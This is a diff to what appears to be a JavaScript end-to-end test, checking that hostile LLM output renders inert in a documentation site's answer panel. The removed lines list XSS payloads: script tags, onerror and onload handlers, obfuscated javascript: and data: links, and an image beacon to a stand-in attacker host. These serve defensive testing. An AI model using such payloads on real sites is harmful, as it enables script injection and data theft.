@@ -6,6 +6,7 @@ import { test } from "node:test";
 import assert from "node:assert/strict";
 import { startLlmServer } from "../../scripts/llm-server/server.mjs";
 import { QUESTION, ask, newPage, openDocs, openPanel, rateLimitGap, recordEvents, screenshot, useEnvironment, waitForAnswer } from "./harness.mjs";
+import { HOSTILE_ANSWER } from "../fixtures/hostile-answer.mjs";
 
 const env = useEnvironment();
 
@@ -164,18 +165,7 @@ test("endpoint unreachable: cited excerpts instead, and a notice that says why",
 });
 
 test("hostile LLM output renders inert: no HTML, no script links, no images", async (t) => {
-  const HOSTILE = [
-    'Here is <img src=x onerror="window.__pwned=1"> an image and <script>window.__pwned=2</script> a script [1].',
-    "",
-    "[click me](javascript:window.__pwned=3) [data](data:text/html,<script>parent.__pwned=4</script>) [mixed](JaVa%09ScRiPt:window.__pwned=5) [tab](java\tscript:window.__pwned=6) [entity](&#106;avascript:window.__pwned=7) [fine](https://example.org/)",
-    "",
-    '<a href="javascript:window.__pwned=8">raw anchor</a> <iframe src="javascript:window.__pwned=9"></iframe> <svg onload="window.__pwned=10"></svg>',
-    "",
-    "![pixel](http://attacker.invalid/p.png?leak=1) <style>body{display:none}</style>",
-    "",
-    "```html\n<script>window.__pwned=11</script>\n```",
-  ].join("\n");
-  const hostile = await startLlmServer({ canned: HOSTILE, tokenDelayMs: 2, tokenChars: 16 });
+  const hostile = await startLlmServer({ canned: HOSTILE_ANSWER, tokenDelayMs: 2, tokenChars: 16 });
   t.after(() => hostile.close());
   const { page } = await newPage(t, env);
   env.site.setUpstream(hostile.url);
